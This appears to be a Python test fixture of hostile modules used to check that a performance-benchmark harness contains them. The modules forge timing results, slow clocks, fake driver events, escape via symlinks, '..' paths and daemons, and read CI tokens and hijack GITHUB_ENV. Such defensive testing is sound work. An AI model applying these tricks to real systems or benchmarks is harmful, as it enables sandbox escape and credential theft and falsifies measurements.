"""Hostile modules, one per attack of issue 13. The attack suite (AttackSuiteIT) runs each through
the container runner and the local runner and asserts that it fails, and that the host is untouched.
Host paths and ports come in as literal arguments; the driver's spec path is its last argument."""
import atexit
import json
import os
import signal
import socket
import sys
import time

import numpy as np
import pandas as pd

_calls = {"n": 0}
_slow = {"on": False}
_mode = {}
_armed = set()


def _spec():
    with open(sys.argv[-1]) as f:
        return json.load(f)


def _lit(v):
    return v.iloc[0] if hasattr(v, "iloc") else v


def _once(name, fn):
    if name not in _armed:
        _armed.add(name)
        fn()


def honest(x):
    return pd.Series(np.asarray(x, dtype="float64") + 1.0)


def forge_result(x):
    """After the driver wrote its result, rewrites it: 1 ns per loop, 50 000 000 000 alerts/s."""
    out = _spec()["output"]

    def forge():
        with open(out) as f:
            r = json.load(f)
        r["samples_ns"] = [1 for _ in r["samples_ns"]]
        with open(out, "w") as f:
            json.dump(r, f)
    _once("forge", lambda: atexit.register(forge))
    return honest(x)


def symlink_result(x, target):
    """Replaces its result file by a link to a host file, hoping the harness copies what it points to."""
    out, host_file = _spec()["output"], _lit(target)

    def link():
        os.remove(out)
        os.symlink(host_file, out)
    _once("link", lambda: atexit.register(link))
    return honest(x)


def slow_clock(x):
    """Makes the driver's clock run 100 times slower: the module looks 100 times faster."""
    def patch():
        real = time.perf_counter_ns
        time.perf_counter_ns = lambda: real() // 100
    _once("clock", patch)
    time.sleep(0.05)
    return honest(x)


def _slowed(clock):
    """``clock`` running 100 times slower from now on (no jump back: the call that installs it stays plausible)."""
    t0 = clock()
    return lambda: t0 + (clock() - t0) // 100


def slow_scale_clocks(x):
    """In a scale run: both clocks the driver reads around a call (wall and CPU) slowed 100 times, and 20 ms of
    CPU per call; the cost model would show a module 100 times cheaper than it is."""
    def patch():
        time.perf_counter_ns = _slowed(time.perf_counter_ns)
        time.process_time_ns = _slowed(time.process_time_ns)
    _busy(0.02)
    _once("scale_clocks", patch)
    return honest(x)


def _scale_run():
    if "scale" not in _mode:
        _mode["scale"] = "scale" in _spec()
    return _mode["scale"]


def slow_cpu_clock(x):
    """In a scale run: only the CPU clock slowed 100 times (the cost model is fitted on CPU time), wall time
    left honest; 20 ms of CPU per call reported as 0.2 ms. Honest in profile's loops, so that what flags it
    is the scale run's check."""
    if not _scale_run():
        return honest(x)
    _busy(0.02)
    _once("cpu_clock", lambda: setattr(time, "process_time_ns", _slowed(time.process_time_ns)))
    return honest(x)


def _fake_run_patch():
    """The driver's clock slowed 100 times and each call's start event moved to just before its end
    (sent on the driver's own event socket), so the kernel-stamped interval agrees with the tiny
    figure reported; result and events all say 100 times faster."""
    from fink_perf_driver import progress
    real = time.perf_counter_ns
    time.perf_counter_ns = lambda: real() // 100
    end = progress.CallEvents.end
    progress.CallEvents.start = lambda self: None

    def start_then_end(self, ns):
        self.channel.send_raw(progress.CallEvents.START)
        end(self, ns)
    progress.CallEvents.end = start_then_end


def fake_run(x):
    """A self-consistent fake run of 50 ms of CPU a call: what only the CPU time its main thread ran,
    read outside its process, gives away."""
    _once("fake_run", _fake_run_patch)
    _busy(0.05)
    return honest(x)


def fake_run_asleep(x):
    """The same fake run, waiting 50 ms a call instead of computing: no CPU time gives it away, but the
    JVM's round trips show the wait, and they are what is published."""
    _once("fake_run_asleep", _fake_run_patch)
    time.sleep(0.05)
    return honest(x)


def one_fake_loop(x):
    """fake_run's trick for one measured loop only (call 3: call 1 is the warm-up), hoping that checks
    taking the median over loops let it through and that the mean throughput keeps its gain."""
    def patch():
        from fink_perf_driver import progress
        real = time.perf_counter_ns
        time.perf_counter_ns = lambda: real() // 100 if _slow["on"] else real()
        start, end = progress.CallEvents.start, progress.CallEvents.end

        def start_unless_faking(self):  # runs just before the driver reads its clock for the call
            _slow["on"] = _calls["n"] + 1 == 3
            if not _slow["on"]:
                start(self)

        def end_with_start_if_faking(self, ns):
            if _slow["on"]:
                self.channel.send_raw(progress.CallEvents.START)
            end(self, ns)
            _slow["on"] = False
        progress.CallEvents.start = start_unless_faking
        progress.CallEvents.end = end_with_start_if_faking
    _calls["n"] += 1
    _once("one_fake_loop", patch)
    time.sleep(0.05)
    return honest(x)


def early_exit(x):
    """Ends the driver 'successfully' in the second measured loop (one chunk: call 1 is the warm-up)."""
    _calls["n"] += 1
    if _calls["n"] == 3:
        os._exit(0)
    return honest(x)


def fake_events(x):
    """Prints lines that look like the driver's events, and GitHub workflow commands."""
    fake = '@@fink-perf {"event": "loop", "kind": "measure", "i": 1, "n": 3, "ns": 1}'
    print(fake)
    print("::add-mask::nothing\n::error title=pwned::from a module\n##[error]from a module")
    sys.stderr.write(fake + "\n")
    sys.stdout.flush()
    return honest(x)


def huge_line(x):
    """64 MiB on stdout without a newline."""
    _once("huge", lambda: os.write(1, b"x" * (64 << 20)))
    return honest(x)


def connect(x, hosts, port):
    """Connects to a listener of the test on the host, by every address a container may reach it at."""
    for host in str(_lit(hosts)).split(","):
        try:
            s = socket.create_connection((host, int(_lit(port))), timeout=2)
            s.sendall(b"escaped")
            s.close()
        except OSError:
            pass
    return honest(x)


def daemon(x, marker, pidfile):
    """Leaves a daemon behind (double fork, own session) that writes a marker file 3 s later."""
    def spawn():
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                with open(_lit(pidfile), "w") as f:
                    f.write(str(os.getpid()))
                time.sleep(3)
                with open(_lit(marker), "w") as f:
                    f.write("the daemon outlived the run")
            os._exit(0)
        os.waitpid(pid, 0)
    _once("daemon", spawn)
    return honest(x)


def read_env(x, marker):
    """Looks for CI credentials and tries to take over later workflow steps through GITHUB_ENV."""
    found = [k for k in os.environ if k.startswith(("GITHUB_", "ACTIONS_", "RUNNER_")) or "TOKEN" in k]
    if os.environ.get("GITHUB_ENV"):
        with open(os.environ["GITHUB_ENV"], "a") as f:
            f.write("PWNED=1\n")
    if found:
        with open(_lit(marker), "w") as f:
            f.write(",".join(found))
    return honest(x)


def kill_self(x):
    """SIGKILL, with plenty of memory left: not an out-of-memory."""
    os.kill(os.getpid(), signal.SIGKILL)


def manifest_dotdot(x, target):
    """Points its saved output's chunk folder at a host folder through '..'."""
    save = _spec()["save_output"]["dir"]

    def rewrite():
        with open(os.path.join(save, "manifest.json")) as f:
            m = json.load(f)
        for c in m["chunks"]:
            c["dir"] = "../" * 16 + str(_lit(target)).lstrip("/")
        with open(os.path.join(save, "manifest.json"), "w") as f:
            json.dump(m, f)
    _once("dotdot", lambda: atexit.register(rewrite))
    return honest(x)


def manifest_symlink(x, target):
    """Replaces its saved chunk folder by a chain of links ending at a host folder."""
    save = _spec()["save_output"]["dir"]

    def relink():
        chunk = os.path.join(save, "chunk-00000")
        for name in os.listdir(chunk):
            os.remove(os.path.join(chunk, name))
        os.rmdir(chunk)
        os.symlink("hop", chunk)
        os.symlink(str(_lit(target)), os.path.join(save, "hop"))
    _once("relink", lambda: atexit.register(relink))
    return honest(x)


def _in_spark_worker():
    return os.path.basename(sys.argv[0]) == "spark_worker.py"


def _busy(seconds):
    """CPU work, not a sleep: what a module that hides its cost would be hiding."""
    end = time.perf_counter() + seconds
    n = 0
    while time.perf_counter() < end:
        n += 1
    return n


def whoami(x, expected_uid):
    """Its output is the uid it runs as; it refuses to run as another than expected (root, say)."""
    uid = os.getuid()
    if uid != int(_lit(expected_uid)):
        raise RuntimeError("running as uid %d, expected %s" % (uid, _lit(expected_uid)))
    return pd.Series(np.full(len(x), float(uid)))


def forge_worker_clock(x):
    """Honest in direct mode; in a Spark worker, slows the clock the worker times its phases with 100
    times from its first call on, so 30 ms of CPU per call is reported as 0.3 ms."""
    if _in_spark_worker():
        def patch():
            real = time.perf_counter_ns
            base = real()
            time.perf_counter_ns = lambda: base + (real() - base) // 100
        _once("worker_clock", patch)
    _busy(0.03)
    return honest(x)


def forge_worker_clocks(x):
    """As forge_worker_clock, and slows the wall clock the worker stamps its phases with too, so its
    reported window shrinks with its parts and nothing looks unaccounted inside it."""
    if _in_spark_worker():
        def patch():
            real, real_wall = time.perf_counter_ns, time.time_ns
            base, base_wall = real(), real_wall()
            time.perf_counter_ns = lambda: base + (real() - base) // 100
            time.time_ns = lambda: base_wall + (real_wall() - base_wall) // 100
        _once("worker_clocks", patch)
    _busy(0.03)
    return honest(x)


def symlink_worker_result(x, target):
    """In a Spark worker, leaves a link to a host file where its result should be (the worker's user
    owns the task folder), hoping the executor reads the host file into the run's errors."""
    if _in_spark_worker():
        def patch():
            real_dump = json.dump

            def dump(obj, f, *args, **kwargs):
                if isinstance(obj, dict) and obj.get("format") == "fink-perf-spark-worker/1":
                    os.remove(f.name)
                    os.symlink(str(_lit(target)), f.name)
                    return None
                return real_dump(obj, f, *args, **kwargs)
            json.dump = dump
        _once("worker_result_link", patch)
    return honest(x)
